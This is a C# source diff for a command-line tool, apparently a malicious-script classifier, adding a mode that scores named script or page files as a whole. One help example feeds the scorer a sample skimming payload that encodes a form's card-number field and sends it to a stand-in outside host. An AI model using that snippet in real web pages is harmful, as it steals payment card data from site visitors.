@@ -33,6 +33,7 @@ internal static class ScoreVerb
             {
                 Examples =
                 [
+                    "weir score script checkout.js saved-page.html",
                     "weir score script --input scripts.jsonl --output verdicts.jsonl",
                     """echo '{"code":"new Image().src=\"//cdn.example/?\"+btoa(document.forms[0].cc_number.value)"}' | weir score script""",
                 ],
@@ -42,14 +43,18 @@ internal static class ScoreVerb
             {
                 ScriptClassifier classifier = ScriptClassifier.Load(model);
                 return () => new ScriptRows(classifier, evidence);
-            }),
+            },
+            ScoreScripts),
     };
 
     /// <param name="verb">Name, description and examples.</param>
     /// <param name="task">First part of a model's file name.</param>
     /// <param name="load">Loads a model and gives what makes scorers.</param>
-    private static Verb Create(Verb verb, string task, Func<string, EvidenceMode, Func<IRowScorer>> load)
+    /// <param name="ofFiles">Scores files that are no rows, each as a whole; null where there are none such.</param>
+    private static Verb Create(Verb verb, string task, Func<string, EvidenceMode, Func<IRowScorer>> load, Func<Wanted, TextWriter, int>? ofFiles = null)
     {
+        var files = new Argument<string[]>("FILE") { Description = "Scripts or pages, each judged as a whole, with the verdict in plain text instead of JSON", Arity = ArgumentArity.ZeroOrMore };
+        if (ofFiles is not null) verb.Add(files);
         var input = new Option<string>("--input", "-i") { Description = "JSON Lines, plain or gzip; - is standard input", HelpName = "FILE|-", DefaultValueFactory = _ => InputFile.StandardInput };
         var output = new Option<string>("--output", "-o") { Description = "Where the verdicts go; - is standard output", HelpName = "FILE|-", DefaultValueFactory = _ => OutputFile.StandardOutput };
         var model = new Option<string?>("--model", "-m") { Description = "Model file; without it the newest that ships with the program", HelpName = "FILE" };
@@ -61,15 +66,32 @@ internal static class ScoreVerb
         verb.SetAction(async (parsed, cancellation) =>
         {
             string from = parsed.GetValue(input)!;
+            EvidenceMode mode = Choice.Read<EvidenceMode>(parsed, evidence)!.Value;
+            if (ofFiles is not null && parsed.GetValue(files) is { Length: > 0 } named)
+            {
+                if (parsed.GetResult(input) is { Implicit: false }) throw new UsageException($"--input has rows, and {named[0]} is judged as a whole; name one of them");
+                if (named.FirstOrDefault(file => file.StartsWith('-') && !File.Exists(file)) is { } odd) throw new UsageException($"unknown option {odd}");
+                return ofFiles(new Wanted(named, parsed.GetValue(output)!, ModelFiles.Resolve(parsed.GetValue(model), task), mode), parsed.InvocationConfiguration.Error);
+            }
+
             if (from == InputFile.StandardInput && parsed.GetResult(input) is { Implicit: true } && !Console.IsInputRedirected)
             {
                 throw new UsageException("nothing to read: name a file with --input, or pipe rows in");
             }
 
-            EvidenceMode mode = Choice.Read<EvidenceMode>(parsed, evidence)!.Value;
             return await RunAsync(from, parsed.GetValue(output)!, ModelFiles.Resolve(parsed.GetValue(model), task), path => load(path, mode), parsed.InvocationConfiguration.Error, cancellation).ConfigureAwait(false);
         });
         return verb;
+    }
+
+    private static int ScoreScripts(Wanted wanted, TextWriter error)
+    {
+        OutputFile.MustNotReplace(wanted.Output, [.. wanted.Files, wanted.Model]);
+        ScriptClassifier classifier = ScriptClassifier.Load(wanted.Model);
+        using OutputFile output = OutputFile.Create(wanted.Output);
+        int failed = ScriptFiles.Write(wanted.Files, classifier, wanted.Evidence, output.Stream, error);
+        output.Commit();
+        return failed > 0 ? ExitCode.Failure : ExitCode.Ok;
     }
 
     private static async Task<int> RunAsync(string from, string to, string modelFile, Func<string, Func<IRowScorer>> load, TextWriter error, CancellationToken cancellation)
@@ -100,4 +122,6 @@ internal static class ScoreVerb
         error.WriteLine($"weir: {totals.BadLines} of {totals.Rows + totals.BadLines} lines held no row; each has an \"error\" line in the output");
         return ExitCode.BadLines;
     }
+
+    private sealed record Wanted(string[] Files, string Output, string Model, EvidenceMode Evidence);
 }
